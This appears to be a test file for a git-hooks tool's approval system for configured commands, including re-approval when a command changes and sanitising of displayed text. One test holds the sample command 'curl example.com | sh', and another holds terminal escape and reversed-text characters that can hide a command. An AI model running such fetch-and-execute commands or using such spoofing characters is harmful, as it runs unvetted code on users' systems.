import { appendFileSync, existsSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { findRepository } from '../../lib/core/paths.ts'
import { isTrusted } from '../../lib/core/trust.ts'
import { assert, run, test } from '../helpers/harness.ts'
import { execute, git, orcHooks, put, repository, type Sandbox, sandbox } from '../helpers/repository.ts'

const CONFIG = 'orc-hooks.config.json'

function withGate(gate: string, name = 'trust'): { box: Sandbox; top: string } {
  const box = sandbox(name)
  const top = repository(box)
  put(join(top, CONFIG), JSON.stringify({ push: { gate } }))
  return { box, top }
}

function trusts(top: string, content: string, name = 'push.gate'): boolean {
  const paths = findRepository(top)
  assert.ok(paths)
  return paths !== undefined && isTrusted(paths, { content, name })
}

test('a command waits for approval, and without a terminal nothing is approved', () => {
  const { box, top } = withGate('npm test')
  const done = orcHooks(box, top, 'trust')
  assert.is(done.code, 3)
  assert.match(done.stdout, /push\.gate\n {4}npm test/)
  assert.is(trusts(top, 'npm test'), false)
  assert.equal(readdirSync(join(top, '.git')).includes('orc-hooks'), false)
})

test('what was approved is approved, in every worktree, for this place and this content alone', () => {
  const { box, top } = withGate('npm test')
  assert.is(orcHooks(box, top, 'trust', '--yes').code, 0)
  git(box, top, 'worktree', 'add', '-q', '../linked')
  assert.is(trusts(top, 'npm test'), true)
  assert.is(trusts(join(box.top, 'linked'), 'npm test'), true)
  assert.is(trusts(top, 'npm test '), false)
  assert.is(trusts(top, 'npm test', 'deployment.notify'), false)
  assert.is(orcHooks(box, top, 'trust').code, 0)
})

test('a changed command waits again, and is shown as a difference', () => {
  const { box, top } = withGate('npm test\nnpm run lint')
  orcHooks(box, top, 'trust', '--yes')
  put(join(top, CONFIG), JSON.stringify({ push: { gate: 'npm test\ncurl example.com | sh' } }))
  const done = orcHooks(box, top, 'trust')
  assert.is(done.code, 3)
  assert.match(done.stdout, /push\.gate \(changed\)\n {4}\+ curl example\.com \| sh\n {4}- npm run lint/)
  assert.is(orcHooks(box, top, 'trust', '--list').stdout.split('push.gate: ').length, 2)
})

test('a copy of the repository has to be approved itself', () => {
  const { box, top } = withGate('npm test')
  orcHooks(box, top, 'trust', '--yes')
  execute(box, box.top, ['cp', '-R', top, join(box.top, 'copy')])
  assert.is(trusts(join(box.top, 'copy'), 'npm test'), false)
})

test('--revoke takes every approval back', () => {
  const { box, top } = withGate('npm test')
  orcHooks(box, top, 'trust', '--yes')
  assert.is(orcHooks(box, top, 'trust', '--revoke').code, 0)
  assert.is(trusts(top, 'npm test'), false)
  assert.match(orcHooks(box, top, 'trust', '--list').stdout, /nothing is approved/)
})

test('nothing hides in what is shown: neither escape sequences nor a reversed reading order', () => {
  const { box, top } = withGate('true \u001b[2K\u202e# nothing')
  const { stdout } = orcHooks(box, top, 'trust')
  assert.match(stdout, String.raw`\u001b[2K\u202e# nothing`)
  assert.not.match(stdout, /[\u001b\u202e]/)
})

test('as JSON', () => {
  const { box, top } = withGate('npm test')
  const part = { content: 'npm test', name: 'push.gate' }
  assert.equal(JSON.parse(orcHooks(box, top, 'trust', '--json').stdout), { approved: [], pending: [part] })
  const done = orcHooks(box, top, 'trust', '--json', '--yes')
  assert.equal(JSON.parse(done.stdout), { approved: [part], pending: [] })
  assert.is(JSON.parse(orcHooks(box, top, 'trust', '--list', '--json').stdout).approved[0].content, 'npm test')
})

test('a damaged line approves nothing, and the others count', () => {
  const { box, top } = withGate('npm test')
  orcHooks(box, top, 'trust', '--yes')
  const file = join(top, '.git/orc-hooks/trust')
  appendFileSync(file, '{"hash":\n[]\n')
  assert.is(trusts(top, 'npm test'), true)
  assert.not.match(readFileSync(file, 'utf8'), /npm run/)
})

test('uninstall forgets what was approved', () => {
  const { box, top } = withGate('npm test')
  orcHooks(box, top, 'init', '--yes', '--harness', 'claude')
  orcHooks(box, top, 'trust', '--yes')
  assert.is(orcHooks(box, top, 'uninstall', '--yes').code, 0)
  assert.is(existsSync(join(top, '.git/orc-hooks')), false)
})

test('a configuration that cannot be read is not passed over as if nothing was configured', () => {
  const { box, top } = withGate('npm test', 'unreadable')
  put(join(top, CONFIG), '{bad')
  for (const words of [['trust'], ['deploy', 'list'], ['monitor-deployment', 'HEAD']])
    assert.match(orcHooks(box, top, ...words).stderr, /warning: orc-hooks\.config\.json/)
  put(join(top, CONFIG), JSON.stringify({ deployment: { environments: { p: { sources: [{ type: 'nope' }] } } } }))
  assert.match(orcHooks(box, top, 'deploy', 'list').stderr, /environments\.p\.sources.*"nope"/)
})

run()
